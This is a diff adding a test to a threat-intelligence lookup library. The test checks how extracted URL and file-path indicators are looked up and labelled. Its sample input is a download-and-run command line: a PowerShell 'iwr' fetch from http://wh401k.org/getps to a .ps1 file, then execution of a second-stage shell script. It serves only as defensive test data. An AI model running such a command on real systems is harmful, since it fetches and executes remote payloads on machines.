@@ -8,6 +8,7 @@ import { spawn } from "node:child_process";
 import path from "node:path";
 import { HuntlabError } from "../../src/common/errors";
 import { TILookup, TI_RESULT_COLUMNS } from "../../src/context/tiLookup";
+import { IoCExtract } from "../../src/transform/iocExtract";
 import { JUPYTER_DISPLAY } from "../../src/display/protocol";
 import { byIoc, rowsOf } from "./tiHelpers";
 import * as svc from "./tiServices";
@@ -263,6 +264,20 @@ test("iocType option and unknown type names", async () => {
   assert.deepEqual([asDomain.IocType, asDomain.Severity], ["dns", "high"]);
   const [bad] = rowsOf(await ti.lookupIoc("wh401k.org", { iocType: "colour" }));
   assert.deepEqual([bad.Status, bad.Details], [2, 'Unknown IoC type "colour".']);
+});
+
+test("IoCExtract's results as they come (IoCType as iocTypeCol): its path types are not supported, not unknown type names", async () => {
+  const ti = lookupOver({ LocalTI: LOCAL });
+  const text = String.raw`iwr http://wh401k.org/getps -o C:\Users\Public\a.ps1; sh /tmp/stage2.sh`;
+  const iocs = new IoCExtract().extract(pl.DataFrame({ cmd: [text] }), { columns: ["cmd"], iocTypes: ["url", "windows_path", "linux_path"] });
+  const rows = byIoc(rowsOf(await ti.lookupIocs(iocs, { obsCol: "Observable", iocTypeCol: "IoCType" })));
+  assert.deepEqual(Object.keys(rows).sort(), ["/tmp/stage2.sh", String.raw`C:\Users\Public\a.ps1`, "http://wh401k.org/getps", "wh401k.org"]);
+  assert.equal(rows["http://wh401k.org/getps"].Status, 0);
+  for (const [path, type] of [[String.raw`C:\Users\Public\a.ps1`, "windows_path"], ["/tmp/stage2.sh", "linux_path"]]) {
+    // It said 'Unknown IoC type "windows_path".' (Status 2), of huntlab's own type name.
+    assert.deepEqual([rows[path].IocType, rows[path].Status], [type, 1], path);
+    assert.match(rows[path].Details, new RegExp(`^LocalTI does not look up ${type} \\(it handles `), path);
+  }
 });
 
 test("a provider that throws does not kill the batch", async () => {
